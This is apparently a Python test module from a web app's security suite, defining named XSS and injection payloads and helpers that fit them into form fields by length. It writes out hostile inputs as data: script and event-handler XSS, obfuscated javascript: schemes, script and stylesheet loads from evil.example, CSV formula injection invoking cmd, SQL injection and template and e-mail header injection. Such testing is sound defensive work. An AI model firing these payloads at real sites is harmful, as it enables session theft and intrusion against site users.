"""The XSS corpus: what hostile text people may type into any field or query parameter.

Each payload is named, so a failure says which one got through. They cover script tags,
event handlers, attribute breakers for every quoting, broken and mutating markup,
``javascript:``/``data:``/``vbscript:`` in every spelling a browser still runs (mixed case,
entities, white space and control characters inside the scheme), addresses that ``linkify``
must not turn into anything else, template and format-string injection, spreadsheet formula
starts for the CSV exports, JSON and e-mail header breakers, and Unicode oddities.

Payloads that would create an element or attribute if they were interpreted carry the marker
``xss`` in its name (``<xss-tag>``, ``data-xss``), so ``inert.problems`` can tell them from
ours; template injection computes ``TEMPLATE_PRODUCT``, which must never appear in a page.
"""

from __future__ import annotations

from collections import defaultdict
from dataclasses import dataclass

# 1337 * 1337: what a template engine that evaluated people's text would print.
TEMPLATE_PRODUCT = "1787569"

PAYLOADS: dict[str, str] = {
    # First, one way out of each context (text, attribute, <title>, <textarea>, a URL, a
    # template, a spreadsheet cell): the shortest fields get these first.
    "tag-breaker": "\"'><xss-tag data-xss=1>",
    "script": "<script>alert(1)</script>",
    "jinja": "{{ 1337*1337 }}",
    "javascript": "javascript:alert(1)",
    "csv-equals": '=HYPERLINK("https://evil.example","x")',
    "title-breakout": "</title><script>alert(1)</script>",
    "attr-single": "' onmouseover='alert(1)' data-xss='",
    "textarea-breakout": "</textarea><script>alert(1)</script>",
    "img-onerror": "<img src=x onerror=alert(1)>",
    # Script tags
    "script-src-mixed-case": "<ScRiPt sRc=//evil.example/x.js></sCrIpT>",
    "script-slash": "<script/xss>alert(1)</script>",
    "script-breakout": "</script><script>alert(1)</script>",
    "script-nested": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    # Event handlers
    "svg-onload": "<svg/onload=alert(1)>",
    "details-ontoggle": "<details open ontoggle=alert(1)>",
    "input-autofocus": "<input autofocus onfocus=alert(1)>",
    "body-onload": "<body onload=alert(1)>",
    # Attribute breakers (double, single and back quotes, unquoted)
    "attr-double": '" onmouseover="alert(1)" data-xss="',
    "attr-backquote": "` onmouseover=alert(1) data-xss=`",
    "attr-unquoted": "x onmouseover=alert(1) data-xss=1",
    # Broken and mutating markup
    "unclosed-tag": "<b data-xss=1",
    "comment": "<!--<script>alert(1)</script>-->",
    "cdata": "<![CDATA[<script>alert(1)</script>]]>",
    "double-open": "<<script>alert(1)//<</script>",
    "mxss-math": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "mxss-noscript": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "iframe-srcdoc": '<iframe srcdoc="<script>alert(1)</script>">',
    "style-tag": "<style>@import 'https://evil.example/x.css';</style>",
    "base-tag": "<base href=https://evil.example/>",
    "meta-refresh": '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    # Schemes, as text and in markup
    "javascript-mixed-case": "JaVaScRiPt:alert(1)",
    "javascript-leading-space": " \tjavascript:alert(1)",
    "javascript-tab": "java\tscript:alert(1)",
    "javascript-newline": "java\nscript:alert(1)",
    "javascript-nul": "java\x00script:alert(1)",
    "javascript-control": "\x01\x0ejavascript:alert(1)",
    "javascript-c1": "\x85\x9bjavascript:alert(1)",
    "javascript-entity-decimal": "&#106;avascript:alert(1)",
    "javascript-entity-hex": "&#x6A;&#x61;vascript&colon;alert(1)",
    "javascript-entity-colon": "javascript&#58;alert(1)",
    "javascript-entity-tab": "java&#x09;script:alert(1)",
    "javascript-href": '<a href="javascript:alert(1)">x</a>',
    "javascript-href-obfuscated": '<a href=" &#14;jAvA&#x0A;script:alert(1)">x</a>',
    "data-uri": "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data-uri-iframe": '<iframe src="data:text/html,<script>alert(1)</script>">',
    "vbscript": "vbscript:msgbox(1)",
    "vbscript-mixed-case": "VbScRiPt:MsgBox(1)",
    # Addresses linkify must keep as links and nothing more
    "link-quote-breaker": 'https://example.org/"onmouseover="alert(1)"data-xss="',
    "link-script": "http://example.org/<script>alert(1)</script>",
    "link-mailto-script": "mailto:a@example.org?body=<script>alert(1)</script>",
    "link-userinfo": "http://javascript:alert(1)@example.org/",
    "link-bidi": "https://example.org/\u202eexe.txt",
    "link-in-parens": "(https://example.org/a_(b)?c=1&d=<x>).",
    # Template and format-string injection
    "jinja-config": "{{ config }}{{ self.__init__.__globals__ }}",
    "jinja-statement": "{% print(1337*1337) %}{# comment #}",
    "other-templates": "${1337*1337} #{1337*1337} <%= 1337*1337 %>",
    "format-strings": "%(name)s %s %d {0} {name} %%",
    # Spreadsheet formula starts (the CSV exports)
    "csv-plus": "+cmd|' /C calc'!A0",
    "csv-minus": "-2+3+cmd|' /C calc'!A0",
    "csv-at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "csv-tab": "\t=1+1",
    # JSON, JavaScript and e-mail header breakers
    "json-breaker": '"}]},{"x":"\\u003c/script\\u003e',
    "js-line-separators": "a\u2028b\u2029c",
    "header-injection": "Asunto\r\nBcc: victima@example.org\r\n\r\nCuerpo",
    # SQL and search syntax (must stay data)
    "sql": "' OR 1=1 -- ",
    "like-wildcards": "100% _de_ \\ todo",
    "fts-syntax": 'NEAR(a b) OR "c" AND d* ^e -f',
    # Unicode oddities
    "unicode": "\ufeff\u200bÑandú \U0001F1EC\U0001F1F9 e\u0301 \u202eabc",
}


# For fields that take only a web address (an organisation's site): addresses the form
# accepts, each trying to leave the ``href`` attribute or the page. (Other schemes are refused
# by the form; tests/organizations checks that.)
URL_PAYLOADS: dict[str, str] = {
    "url-tag-breaker": "https://example.org/?a=\"'><xss-tag/data-xss=1>",
    "url-attr-double": 'https://example.org/"onmouseover="alert(1)"data-xss="',
    "url-attr-single": "https://example.org/'onmouseover='alert(1)'data-xss='",
    "url-script": "https://example.org/<script>alert(1)</script>",
    "url-jinja": "https://example.org/{{1337*1337}}",
    "url-csv": "https://example.org/=HYPERLINK(1)",
    "url-userinfo": "https://javascript:alert(1)@example.org/",
}


@dataclass(frozen=True)
class Pack:
    """Payloads joined by a space up to a field's length limit."""

    text: str
    names: tuple[str, ...]


NAMES = tuple(PAYLOADS)


def pack(limit: int, start: int = 0, *, names: tuple[str, ...] = NAMES) -> Pack:
    """As many payloads as fit in ``limit`` characters, from the ``start``-th (cyclically),
    skipping those too long for the field. Never empty: a payload longer than the limit is
    cut when nothing else fits."""
    chosen: list[str] = []
    length = 0
    for offset in range(len(names)):
        name = names[(start + offset) % len(names)]
        extra = len(PAYLOADS[name]) + (1 if chosen else 0)
        if length + extra <= limit:
            chosen.append(name)
            length += extra
    if not chosen:
        name = names[start % len(names)]
        return Pack(PAYLOADS[name][:limit], (name,))
    return Pack(" ".join(PAYLOADS[name] for name in chosen), tuple(chosen))


def url_payload(start: int = 0) -> Pack:
    """One of ``URL_PAYLOADS`` (a web address field takes one address)."""
    name = tuple(URL_PAYLOADS)[start % len(URL_PAYLOADS)]
    return Pack(URL_PAYLOADS[name], (name,))


class Rotation:
    """Hands each field, every time it is typed, the payloads it has not had yet (as many as
    fit), so short fields work through the whole corpus over several worlds; web address
    fields get ``URL_PAYLOADS`` in turn. ``given`` says which payloads each field had."""

    def __init__(self, url_fields: tuple[str, ...] = ()) -> None:
        self.url_fields = url_fields
        self.given: dict[str, set[str]] = defaultdict(set)
        self._urls: dict[str, int] = defaultdict(int)

    def text(self, key: str, limit: int, n: int = 0) -> str:  # noqa: ARG002 - TextFor
        if key in self.url_fields:
            chosen = url_payload(self._urls[key])
            self._urls[key] += 1
        else:
            had = self.given[key]
            order = tuple(name for name in NAMES if name not in had) + tuple(
                name for name in NAMES if name in had)
            chosen = pack(limit, names=order)
        self.given[key].update(chosen.names)
        return chosen.text

    def coverage(self) -> dict[str, float]:
        """The share of the corpus each field has had."""
        return {key: len(names & set(NAMES)) / len(NAMES) if key not in self.url_fields
                else len(names) / len(URL_PAYLOADS) for key, names in self.given.items()}
